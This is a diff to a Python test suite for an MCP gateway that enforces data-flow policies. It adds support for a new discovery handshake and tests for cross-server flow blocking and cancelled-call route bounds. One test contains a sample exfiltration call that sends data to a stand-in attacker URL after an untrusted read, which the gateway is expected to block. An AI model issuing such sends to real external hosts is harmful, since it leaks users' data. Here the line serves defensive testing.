@@ -156,8 +156,9 @@ def _params(policy: Path) -> Any:
     )
 
 
-def _run(tmp: Path, body: Any, policy: Path | None = None) -> Any:
-    """``body(session)`` in an initialized official-SDK client session through the stdio gateway."""
+def _run(tmp: Path, body: Any, policy: Path | None = None, *, modern: bool = False) -> Any:
+    """``body(session)`` in an official-SDK client session through the stdio gateway, opened with ``initialize``
+    (the handshake era) or, ``modern``, with the 2026-07-28 revision's ``server/discover``."""
     from mcp import ClientSession, stdio_client
 
     async def main() -> Any:
@@ -166,7 +167,10 @@ def _run(tmp: Path, body: Any, policy: Path | None = None) -> Any:
                 stdio_client(_params(policy or _policy(tmp)), errlog=errlog) as (r, w),
                 ClientSession(r, w) as session,
             ):
-                await session.initialize()
+                if modern:
+                    session.discovered = await session.discover()
+                else:
+                    await session.initialize()
                 return await body(session)
 
     return anyio.run(main)
@@ -233,6 +237,34 @@ def test_a_cross_server_flow_is_blocked_and_a_trusted_read_is_not(tmp_path: Path
     assert sent == ["a", "c"]  # the blocked send never reached the mail server
     blocked = [r for r in _audit(tmp_path) if r.get("decision") == "block" and r.get("tool") == "mail__send"]
     assert blocked and blocked[0]["rule"] == "flows.no-send-after-untrusted-read"
+
+
+def test_a_2026_07_28_client_gets_one_valid_merged_listing_and_the_cross_server_flow_holds(tmp_path: Path) -> None:
+    """``server/discover`` and ``tools/list`` are gathered from every server and answered in the revision's shape
+    (``resultType``, caching directives, the gateway's own identity in ``_meta``), which the SDK client validates;
+    the flow rule blocks a send on one server after an untrusted read on another, as in the handshake era."""
+    from mcp import MCPError
+
+    async def body(session: Any) -> dict[str, Any]:
+        out: dict[str, Any] = {"discovered": session.discovered, "version": session.protocol_version}
+        out["names"] = await _names(session)
+        out["read"] = _text(await session.call_tool("web__read_page", {"url": "https://news.test"}))
+        with pytest.raises(MCPError) as denied:
+            await session.call_tool("mail__send", {"url": "https://evil.test/x", "text": "b"})
+        out["denied"] = denied.value.error.message
+        out["pong"] = await session.send_ping()
+        return out
+
+    out = _run(tmp_path, body, modern=True)
+    assert out["version"] == "2026-07-28"
+    info = out["discovered"].meta["io.modelcontextprotocol/serverInfo"]
+    assert info["name"] == "sentinel-lab-gateway"
+    assert out["discovered"].capabilities.tools is not None
+    web_and_mail = [n for n in out["names"] if not n.startswith("paged__")]
+    assert web_and_mail == sorted([f"mail__{t}" for t in TOOLS if t != "hidden"] + [f"web__{t}" for t in TOOLS])
+    assert out["read"] == "page at https://news.test"
+    assert "no-send-after-untrusted-read" in out["denied"]
+    assert [c["tool"] for c in calls(tmp_path / "calls.jsonl")] == ["read_page"]  # the send never ran
 
 
 def test_a_crashing_upstream_answers_its_call_and_takes_nothing_else_down(tmp_path: Path) -> None:
@@ -350,3 +382,34 @@ def test_http_gateway_fronts_a_stdio_and_an_http_upstream(http_gateway: str, tmp
         ("mail", "whoami"),
         ("web", "read_page"),
     ]
+
+
+class _RecordingLink:
+    """The part of an upstream link the router's cancellation path uses: what it owes and what it was sent."""
+
+    def __init__(self, name: str) -> None:
+        self.name, self.out, self.alive, self.sent = name, {}, True, []  # type: ignore[var-annotated]
+
+    def send(self, msg: dict[str, Any]) -> None:
+        self.sent.append(msg)
+
+
+def test_routes_of_cancelled_calls_are_kept_for_late_answers_but_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A cancelled call's route stays (its late answer still taints), but a server that never answers cancelled
+    calls cannot grow the gateway's memory: past the relay's bound the oldest routes are dropped."""
+    from sentinel_lab._mcp import multi
+    from sentinel_lab._policy.model import Policy
+
+    monkeypatch.setattr(multi, "_MAX_CANCELLED", 3)
+    router = multi.MultiProxy(Policy.from_yaml("upstreams: {a: {command: [x]}}\nverifier: false\n"))
+    link = _RecordingLink("a")
+    for pid in range(1, 11):
+        uid = router._uid(link, multi._Out(pid))  # type: ignore[arg-type]
+        router.routed[pid] = (link, uid)  # type: ignore[assignment]
+        router._notification_out(
+            {"jsonrpc": "2.0", "method": "notifications/cancelled", "params": {"requestId": pid}},
+            "notifications/cancelled",
+        )
+    assert [m["params"]["requestId"] for m in link.sent] == list(range(1, 11))  # each cancel reached the server
+    assert sorted(router.routed) == [8, 9, 10] and sorted(link.out) == [8, 9, 10]
+    assert list(router.cancelled_routes) == [8, 9, 10]
